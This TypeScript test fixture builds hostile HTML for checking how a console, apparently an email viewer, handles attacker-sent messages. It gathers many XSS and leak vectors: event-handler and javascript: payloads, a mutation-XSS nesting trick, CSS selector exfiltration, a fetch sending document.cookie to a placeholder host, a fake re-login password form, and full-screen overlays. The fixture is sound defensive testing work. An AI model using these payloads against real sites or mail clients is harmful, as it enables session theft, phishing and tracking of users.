/** HTML as attackers send it, for tests of what the console makes of it. Everything that could reach out names `elsewhere`. */

/** One of each way that is known to run, to send, to load or to lead away. */
export function hostileHtml(elsewhere: string): string {
  return `<!doctype html><html><head><title>x</title>
<base href="${elsewhere}/base/">
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
<link rel="stylesheet" href="${elsewhere}/sheet.css"><link rel="preload" as="image" href="${elsewhere}/preload.png"><link rel="dns-prefetch" href="${elsewhere}">
<style>@import url("${elsewhere}/import.css"); @font-face { font-family: leak; src: url(${elsewhere}/font.woff) }
body { background: url("${elsewhere}/background.png"); font-family: leak }
input[value^="s"] { background-image: url(${elsewhere}/exfiltrate?s) }
a[href*="token"]::after { content: url(${elsewhere}/content.png) }
.cover { position: fixed; inset: 0; z-index: 99999; background: white }
</style>
<script>top.hacked = parent.hacked = window.hacked = 1; fetch("${elsewhere}/fetch?" + document.cookie)</script>
<script src="${elsewhere}/script.js"></script></head>
<body onload="top.hacked = 2" background="${elsewhere}/body.png">
<h1>Your parcel could not be delivered</h1>
<img src="${elsewhere}/pixel.gif" width="1" height="1"><img src=x onerror="top.hacked = 3"><img srcset="${elsewhere}/set.png 2x">
<picture><source srcset="${elsewhere}/source.png"><img src="cid:nobody"></picture>
<video src="${elsewhere}/video.mp4" poster="${elsewhere}/poster.png" autoplay></video><audio src="${elsewhere}/audio.mp3" autoplay></audio>
<svg onload="top.hacked = 4"><image href="${elsewhere}/svg.png" /><script>top.hacked = 5</script><use href="${elsewhere}/use.svg#x" /><a xlink:href="javascript:top.hacked=6"><text y="20">vector</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.hacked = 7"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror='top.hacked = 8'>"></noscript>
<form action="${elsewhere}/form" method="post"><input name="password" value="secret"><button>Log in again</button></form>
<input type="image" src="${elsewhere}/input.png" formaction="${elsewhere}/formaction">
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>top.hacked = 9</script>"></iframe>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<a href="javascript:top.hacked=10">track it</a> <a href=" java&#10;script:top.hacked=11">track it</a> <a href="data:text/html,<script>opener.hacked=12</script>" target="_blank">track it</a>
<a href="${elsewhere}/link?token" target="_top" ping="${elsewhere}/ping">leave</a> <a href="//${elsewhere.slice(7)}/protocol-relative" target="_blank">leave</a>
<p style="background: url(${elsewhere}/inline.png); width: expression(top.hacked=13); behavior: url(${elsewhere}/behaviour)">styled</p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">over everything</p>
<div class="cover" onclick="top.hacked = 14">cover</div>
<table background="${elsewhere}/table.png"><tr><td background="${elsewhere}/cell.png">cell</td></tr></table>
<template><img src="${elsewhere}/template.png"></template>
<!--[if gte mso 9]><img src="${elsewhere}/conditional.png"><![endif]-->
<marquee onstart="top.hacked = 15">slow</marquee><details open ontoggle="top.hacked = 16">open</details>
</body></html>`;
}

/** Tables in tables, of so many bytes. */
export function nestedTables(bytes: number): string {
  const [open, close] = ['<table><tr><td>\r\n', '</td></tr></table>\r\n'];
  const depth = Math.floor(bytes / (open.length + close.length));
  return `<p>The bottom is far</p>\r\n${open.repeat(depth)}bottom${close.repeat(depth)}`;
}
